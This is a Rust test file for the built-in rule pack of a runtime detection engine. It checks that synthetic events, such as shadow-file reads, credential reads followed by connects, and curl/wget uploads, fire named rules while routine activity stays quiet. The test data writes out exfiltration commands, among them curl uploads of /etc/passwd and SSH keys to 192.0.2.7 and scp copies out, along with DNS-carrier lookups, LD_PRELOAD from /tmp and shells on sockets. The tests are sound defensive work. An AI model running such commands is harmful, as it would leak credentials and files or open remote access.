//! The built-in pack against the event sequences it is for, and against
//! the routine ones it must stay quiet on. Events are the NDJSON objects
//! the sink writes, as in engine_tests.

use super::{load, Engine};
use serde_json::{json, Value};

fn builtin() -> Engine {
    Engine::new(load(None).expect("the built-in pack compiles"))
}

fn ev(id: u64, secs: u64, kind: &str, extra: Value) -> Value {
    let mut v = json!({
        "type": kind, "id": id,
        "ts": format!("2026-12-02T00:{:02}:{:02}.000001Z", secs / 60, secs % 60),
        "pid": 100 + id, "comm": "x", "severity": "info",
        "ancestors": [{"pid": 50, "comm": "bash"}, {"pid": 10, "comm": "Runner.Worker"}, {"pid": 1, "comm": "systemd"}],
    });
    for (k, x) in extra.as_object().unwrap() {
        v[k] = x.clone();
    }
    v
}

/// The rule names the events fire, in order.
fn fired(events: &[Value]) -> Vec<String> {
    let mut e = builtin();
    events
        .iter()
        .flat_map(|x| e.push(x))
        .map(|s| s.rule.to_string())
        .collect()
}

fn exec(id: u64, comm: &str, argv: &[&str]) -> Value {
    ev(
        id,
        id,
        "process",
        json!({"kind": "exec", "comm": comm, "exe": format!("/usr/bin/{comm}"), "argv": argv}),
    )
}

fn shadow_read(id: u64, comm: &str, severity: &str) -> Value {
    ev(
        id,
        id,
        "file",
        json!({"comm": comm, "path": "/etc/shadow", "access": "read", "result": "ok",
               "category": "system_credential", "severity": severity}),
    )
}

#[test]
fn three_sudo_calls_are_not_credential_harvesting() {
    // Each sudo reads /etc/shadow as an expected program: info.
    let routine: Vec<Value> = (1..=3).map(|i| shadow_read(i, "sudo", "info")).collect();
    assert_eq!(fired(&routine), Vec::<String>::new());
    // The same three reads by a program that has no business there.
    let taken: Vec<Value> = (1..=3).map(|i| shadow_read(i, "cat", "critical")).collect();
    assert_eq!(fired(&taken), vec!["credential-harvesting"]);
}

#[test]
fn an_expected_key_read_then_a_connect_is_not_theft() {
    // git over ssh: ssh reads its key (info) and connects out.
    let key = |sev: &str| {
        ev(
            1,
            1,
            "file",
            json!({"comm": "ssh", "path": "/root/.ssh/id_ed25519", "access": "read",
                   "result": "ok", "category": "ssh_key", "severity": sev}),
        )
    };
    let connect = ev(
        2,
        2,
        "network",
        json!({"op": "connect", "daddr": "192.0.2.7", "dport": 22}),
    );
    assert_eq!(fired(&[key("info"), connect.clone()]), Vec::<String>::new());
    assert_eq!(
        fired(&[key("critical"), connect]),
        vec!["credential-read-then-egress"]
    );
}

#[test]
fn a_shell_history_read_then_a_connect_is_credential_theft() {
    let hist = ev(
        1,
        1,
        "file",
        json!({"comm": "cat", "path": "/home/u/.bash_history", "access": "read",
               "result": "ok", "category": "shell_history", "severity": "high"}),
    );
    let connect = ev(
        2,
        2,
        "network",
        json!({"op": "connect", "daddr": "192.0.2.7", "dport": 443}),
    );
    assert_eq!(fired(&[hist, connect]), vec!["credential-read-then-egress"]);
}

#[test]
fn uploads_with_curl_and_wget_are_signals_and_downloads_are_not() {
    for argv in [
        &["curl", "-T", "/etc/passwd", "http://192.0.2.7/"][..],
        &["curl", "--upload-file", "x", "http://h/"],
        &["curl", "--upload-file=x", "http://h/"],
        &["curl", "-F", "f=@/root/.ssh/id_rsa", "http://h/"],
        &["curl", "--data", "@/etc/hosts", "http://h/"],
        &["curl", "-d@/etc/hosts", "http://h/"],
        &["curl", "--data-binary=@x", "http://h/"],
    ] {
        assert_eq!(
            fired(&[exec(1, argv[0], argv)]),
            vec!["file-upload-with-downloader"],
            "{argv:?}"
        );
    }
    assert_eq!(
        fired(&[exec(1, "wget", &["wget", "--post-file", "x", "http://h/"])]),
        vec!["file-upload-with-downloader"]
    );
    for argv in [
        &["curl", "-fsSL", "-o", "out.tgz", "https://h/x.tgz"][..],
        &["curl", "-d", "a=b", "http://h/"],
        &["wget", "-q", "https://h/x"],
    ] {
        assert_eq!(
            fired(&[exec(1, argv[0], argv)]),
            Vec::<String>::new(),
            "{argv:?}"
        );
    }
}

#[test]
fn remote_copies_are_signals_and_git_over_ssh_is_not() {
    for (comm, argv) in [
        ("scp", &["scp", "/etc/hosts", "u@192.0.2.7:/tmp/"][..]),
        ("rsync", &["rsync", "-a", "dir/", "192.0.2.7:dir/"]),
        ("sftp", &["sftp", "u@192.0.2.7"]),
        ("ssh", &["ssh", "u@192.0.2.7", "cat > x"]),
    ] {
        assert_eq!(
            fired(&[exec(1, comm, argv)]),
            vec!["remote-copy-out"],
            "{argv:?}"
        );
    }
    for (comm, argv) in [
        (
            "ssh",
            &["ssh", "git@github.com", "git-upload-pack 'o/r.git'"][..],
        ),
        (
            "ssh",
            &[
                "ssh",
                "-o",
                "SendEnv=GIT_PROTOCOL",
                "git@h",
                "git-receive-pack 'r'",
            ],
        ),
        ("rsync", &["rsync", "-a", "src/", "dst/"]),
        ("scp", &["scp", "a", "b"]),
    ] {
        assert_eq!(
            fired(&[exec(1, comm, argv)]),
            Vec::<String>::new(),
            "{argv:?}"
        );
    }
}

#[test]
fn long_labels_in_lookups_and_whois_are_carriers() {
    let label = "a3f9c0d1e2b4a6c8d0e1f2a3b4c5d6e7f8091a2b3c"; // 42 characters
    assert_eq!(
        fired(&[exec(
            1,
            "dig",
            &["dig", "+short", &format!("{label}.x.example")]
        )]),
        vec!["dns-or-whois-as-carrier"]
    );
    assert_eq!(
        fired(&[exec(1, "whois", &["whois", "-h", "192.0.2.7", "data"])]),
        vec!["dns-or-whois-as-carrier"]
    );
    // An ordinary long name, each label short.
    assert_eq!(
        fired(&[exec(
            1,
            "dig",
            &["dig", "ec2-34-123-45-67.compute-1.amazonaws.com"]
        )]),
        Vec::<String>::new()
    );
}

fn exec_env(id: u64, env: &[&str]) -> Value {
    ev(
        id,
        id,
        "process",
        json!({"kind": "exec", "comm": "ls", "exe": "/usr/bin/ls", "argv": ["ls"], "loader_env": env}),
    )
}

#[test]
fn loader_variables_are_signals_by_where_they_point() {
    assert_eq!(
        fired(&[exec_env(1, &["LD_PRELOAD=/tmp/x.so"])]),
        vec!["loader-preload-from-temp"]
    );
    assert_eq!(
        fired(&[exec_env(1, &["LD_AUDIT=/dev/shm/a.so"])]),
        vec!["loader-preload-from-temp"]
    );
    assert_eq!(
        fired(&[exec_env(1, &["LD_PRELOAD=libeatmydata.so"])]),
        vec!["loader-variable-set"]
    );
    assert_eq!(
        fired(&[exec_env(1, &["LD_LIBRARY_PATH=/opt/lib:/tmp/evil"])]),
        vec!["loader-variable-set"]
    );
    assert_eq!(
        fired(&[exec_env(1, &["LD_LIBRARY_PATH=/opt/lib"])]),
        Vec::<String>::new()
    );
    assert_eq!(fired(&[exec_env(1, &[])]), Vec::<String>::new());
}

#[test]
fn a_program_on_a_socket_is_critical_whatever_its_name() {
    let sh = |comm: &str, sock: bool| {
        let mut e = exec(1, comm, &[comm, "-i"]);
        if sock {
            e["stdio_socket"] = json!(true);
        }
        e
    };
    assert_eq!(fired(&[sh("bash", true)]), vec!["shell-on-a-socket"]);
    assert_eq!(fired(&[sh("python3", true)]), vec!["shell-on-a-socket"]);
    assert_eq!(fired(&[sh("bash", false)]), Vec::<String>::new());
    // A shell copied under another name is one too: not judged by comm.
    assert_eq!(fired(&[sh("q", true)]), vec!["shell-on-a-socket"]);
}
